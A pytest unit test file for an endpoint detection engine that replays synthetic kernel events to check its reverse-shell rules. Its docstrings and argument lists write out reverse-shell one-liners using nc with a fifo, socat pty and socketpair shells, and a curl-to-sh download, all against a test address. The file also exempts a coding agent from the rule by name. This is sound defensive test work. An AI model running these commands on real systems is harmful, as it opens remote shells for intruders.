"""Pipes, fifos and ptys in the process table (chan and dup events with the kernel's fd kinds),
the relayed-shell rule built on them, and the stale-socket fix: an fd number the table once saw
connected is no socket once the kernel says what it is now."""

from __future__ import annotations

import pytest

from coi_sentinel.events import model
from coi_sentinel.events.proctable import ProcessTable
from coi_sentinel.rules import Engine, load_ruleset

pytestmark = pytest.mark.unit

HOST = "198.18.203.2"
RULE = "shell_relayed_through_pipe_to_socket"


class Run:
    """Events of one scenario, fed to the process table and the bundled rules."""

    def __init__(self) -> None:
        self.alerts: list = []
        self.engine = Engine(load_ruleset(None), on_alert=self.alerts.append)
        self.ts = 1000

    @property
    def table(self) -> ProcessTable:
        return self.engine.table

    def hdr(self, pid: int, comm: str) -> tuple:
        self.ts += 1000
        p = self.table.get(pid)
        return (self.ts, pid, pid, p.ppid if p else 1, 0, 0, comm, 7, 7, "c1")

    def feed(self, ev: model.Event) -> None:
        self.engine.feed(ev)

    def fork(self, parent: int, child: int, comm: str = "bash") -> None:
        self.feed(model.ForkEvent(*self.hdr(parent, comm), child, 0x11))

    def execve(self, pid: int, path: str, *argv: str) -> None:
        name = path.rsplit("/", 1)[-1]
        self.feed(model.ExecEvent(*self.hdr(pid, name[:15]), path, argv, len(argv), 0, -100, 0))

    def pipe(self, pid: int, r: int, w: int, cid: int, comm: str = "bash") -> None:
        self.feed(model.ChanEvent(*self.hdr(pid, comm), "pipe", r, w, "pipe", "read", cid, -1, 0))

    def open_chan(self, pid: int, fd: int, kind: str, end: str, cid: int, comm: str) -> None:
        self.feed(model.ChanEvent(*self.hdr(pid, comm), "open", fd, -1, kind, end, cid, -1, 0))

    def dup(self, pid: int, old: int, new: int, comm: str = "bash", kind: str = "other",
            cid: int = 0, end: str = "") -> None:
        self.feed(model.DupEvent(*self.hdr(pid, comm), old, new, 0, False, "", "", 0, False,
                                 kind, cid, end))

    def connect(self, pid: int, fd: int, comm: str, addr: str = HOST) -> None:
        self.feed(model.ConnectEvent(*self.hdr(pid, comm), fd, "inet", addr, 443, 0))

    def fired(self) -> list[str]:
        return [a.rule for a in self.alerts]


def nc_fifo(run: Run, order: str, addr: str = HOST) -> None:
    """bash -c 'mkfifo f; cat f | /bin/sh -i 2>&1 | nc HOST 443 > f', as the kernel reports it,
    in one of the orders the processes may run in."""
    run.execve(100, "/bin/bash", "bash", "-c", "cat f | sh -i | nc")
    run.pipe(100, 3, 4, 501)                       # cat | sh
    run.pipe(100, 5, 6, 502)                       # sh | nc
    for child in (101, 102, 103):
        run.fork(100, child)
    run.dup(101, 4, 1, kind="pipe", cid=501, end="write")             # cat: stdout -> pipe 1
    run.dup(102, 3, 0, kind="pipe", cid=501, end="read")              # sh: stdin <- pipe 1
    run.dup(102, 6, 1, kind="pipe", cid=502, end="write")             # sh: stdout -> pipe 2
    run.dup(103, 5, 0, kind="pipe", cid=502, end="read")              # nc: stdin <- pipe 2
    run.open_chan(103, 7, "fifo", "write", 900, "bash")               # > f
    run.dup(103, 7, 1, kind="fifo", cid=900, end="write")
    run.execve(101, "/usr/bin/cat", "cat", "f")
    if order != "fifo_last":
        run.open_chan(101, 3, "fifo", "read", 900, "cat")
    if order == "net_first":
        run.execve(103, "/usr/bin/nc", "nc", HOST, "443")
        run.connect(103, 3, "nc", addr)
        run.execve(102, "/bin/sh", "sh", "-i")
    else:
        run.execve(102, "/bin/sh", "sh", "-i")
        run.execve(103, "/usr/bin/nc", "nc", HOST, "443")
        run.connect(103, 3, "nc", addr)
    if order == "fifo_last":       # cat's open of the fifo returns last: it closes the loop
        run.open_chan(101, 3, "fifo", "read", 900, "cat")


@pytest.mark.parametrize("order", ["net_first", "shell_first", "fifo_last"])
def test_fifo_relay_is_caught_whichever_comes_first(order):
    run = Run()
    nc_fifo(run, order)
    assert run.fired().count(RULE) == 1
    [alert] = [a for a in run.alerts if a.rule == RULE]
    assert "peer=" in alert.output


def test_relay_to_loopback_is_not_this_rule():
    run = Run()
    nc_fifo(run, "net_first", addr="127.0.0.1")
    assert RULE not in run.fired()


def test_socat_pty_shell():
    """socat connects, opens /dev/ptmx, gets the slave by TIOCGPTPEER, forks; the child puts
    the slave on 0-2 and execs bash -li."""
    run = Run()
    run.execve(200, "/usr/bin/socat", "socat", "exec:bash -li,pty", f"tcp:{HOST}:443")
    run.connect(200, 5, "socat")
    run.open_chan(200, 6, "pty", "master", 777, "socat")
    # the same open of /dev/ptmx (O_RDWR) is a write-intent file_open too: it must not look
    # like a new fd replacing the master
    run.feed(model.FileOpenEvent(*run.hdr(200, "socat"), "/dev/ptmx", 2, 0, 6, 0, "write", -100))
    run.feed(model.ChanEvent(*run.hdr(200, "socat"), "ptpeer", 7, 6, "pty", "slave", 777, -1, 0))
    run.fork(200, 201, "socat")
    for fd in (0, 1, 2):
        run.dup(201, 7, fd, "socat", "pty", 777, "slave")
    run.execve(201, "/usr/bin/bash", "bash", "-li")
    assert run.fired().count(RULE) == 1


def test_download_piped_to_shell_is_not_a_relay():
    """curl URL | sh: the shell is fed by a network process but its output goes nowhere near
    one (download_piped_to_shell's business, not a reverse shell's)."""
    run = Run()
    run.execve(300, "/bin/bash", "bash", "-c", "curl URL | sh")
    run.pipe(300, 3, 4, 601)
    run.fork(300, 301)
    run.fork(300, 302)
    run.dup(301, 4, 1, kind="pipe", cid=601, end="write")
    run.dup(302, 3, 0, kind="pipe", cid=601, end="read")
    run.execve(301, "/usr/bin/curl", "curl", "-s", "URL")
    run.connect(301, 5, "curl")
    run.execve(302, "/bin/sh", "sh")
    assert RULE not in run.fired()


def test_agent_with_a_persistent_shell_is_excepted():
    """An agent that keeps `bash` behind two pipes and talks to its API is this shape exactly;
    agents are excepted by name."""
    run = Run()
    run.execve(400, "/usr/local/bin/claude", "claude")
    run.connect(400, 20, "claude")
    run.pipe(400, 21, 22, 701, "claude")
    run.pipe(400, 23, 24, 702, "claude")
    run.fork(400, 401, "claude")
    run.dup(401, 21, 0, "claude", "pipe", 701, "read")
    run.dup(401, 24, 1, "claude", "pipe", 702, "write")
    run.execve(401, "/bin/bash", "bash")
    assert RULE not in run.fired()


def test_stale_socket_fd_reused_for_a_pipe_is_no_socket_on_stdin():
    """The driven Claude Code run's false positive: the agent's API socket was fd 13, closed
    unseen; fd 13 is now a pipe, dup2'd onto a child's stdin before it execs a shell."""
    run = Run()
    run.execve(500, "/usr/local/bin/claude", "claude")
    run.connect(500, 13, "claude")
    run.fork(500, 501, "claude")
    run.dup(501, 13, 0, "claude", "pipe", 801, "read")       # the kernel: a pipe, not a socket
    run.execve(501, "/usr/bin/awk", "awk", "{print}")
    assert "reverse_shell_exec_socket_stdio" not in run.fired()
    assert 0 not in run.table.get(501).stdio_sockets


def test_fd_reuse_seen_in_the_stream_drops_the_stale_socket():
    """Without kinds (a record of an older probe): a pipe made on the socket's old fd number
    tells the table the socket is gone."""
    run = Run()
    run.execve(510, "/usr/local/bin/claude", "claude")
    run.connect(510, 13, "claude")
    run.pipe(510, 13, 14, 802, "claude")
    run.fork(510, 511, "claude")
    run.feed(model.DupEvent(*run.hdr(511, "claude"), 13, 0, 0, False, "", "", 0))
    run.execve(511, "/usr/bin/awk", "awk", "{print}")
    assert "reverse_shell_exec_socket_stdio" not in run.fired()
    p = run.table.get(511)
    assert p.chans[0] == ("pipe", 802, "read") and 0 not in p.stdio_sockets


def test_old_records_without_kinds_keep_the_table_socket():
    """revshell_fork_dup recorded before fd kinds: is_socket false from the kernel said
    nothing, the table's socket (connected before the fork) stands."""
    run = Run()
    run.execve(520, "/tmp/updater", "updater", HOST, "443")
    run.connect(520, 3, "updater")
    run.fork(520, 521, "updater")
    for fd in (0, 1, 2):
        run.feed(model.DupEvent(*run.hdr(521, "updater"), 3, fd, 0, False, "", "", 0))
    run.execve(521, "/bin/sh", "sh", "-i")
    assert "reverse_shell_exec_socket_stdio" in run.fired()


def test_holders_are_forgotten_at_exit_and_exec():
    t = ProcessTable()
    h = (1, 600, 600, 1, 0, 0, "bash", 7, 7, "c1")
    t.apply(model.ChanEvent(*h, "pipe", 3, 4, "pipe", "read", 901, -1, 0))
    t.apply(model.ForkEvent(*h, 601, 0))
    child = t.get(601)
    assert child.chans == {3: ("pipe", 901, "read"), 4: ("pipe", 901, "write")}
    t.apply(model.ExecEvent(1, 601, 601, 600, 0, 0, "cat", 7, 7, "c1", "/bin/cat", ("cat",), 1, 0,
                            -100, 0))
    assert child.chans == {}                                   # fds past 2: gone at exec
    t.apply(model.ExitEvent(*h, 0, 0))
    assert t._holders == {}


def test_implant_holding_both_pipes_caught_when_its_late_pipe_record_arrives():
    """subprocess.Popen(['sh'], stdin=PIPE, stdout=PIPE) in a connected Python implant. Pipe
    records come on the bulk ring: here they are handled after the shell's exec, and the
    second one closes the loop."""
    run = Run()
    run.execve(700, "/usr/bin/python3", "python3", "implant.py")
    run.connect(700, 3, "python3")
    run.fork(700, 701, "python3")
    run.dup(701, 4, 0, "python3", "pipe", 901, "read")
    run.dup(701, 7, 1, "python3", "pipe", 902, "write")
    run.execve(701, "/bin/sh", "sh")
    assert RULE not in run.fired()
    run.pipe(700, 4, 5, 901, "python3")
    run.pipe(700, 6, 7, 902, "python3")
    assert run.fired().count(RULE) == 1


def test_socat_exec_through_a_socketpair():
    """socat tcp:HOST:PORT exec:/bin/sh: the shell's stdio is one end of a unix socketpair,
    socat holds the other and the TCP socket."""
    run = Run()
    run.execve(800, "/usr/bin/socat", "socat", f"tcp:{HOST}:1337", "exec:/bin/sh")
    run.connect(800, 5, "socat")
    run.feed(model.ChanEvent(*run.hdr(800, "socat"), "socketpair", 6, 7, "socketpair", "rdwr", 991, -1, 0))
    run.fork(800, 801, "socat")
    for fd in (0, 1):
        run.dup(801, 7, fd, "socat", "socketpair", 991, "rdwr")
    run.execve(801, "/bin/sh", "/bin/sh")
    assert run.fired().count(RULE) == 1
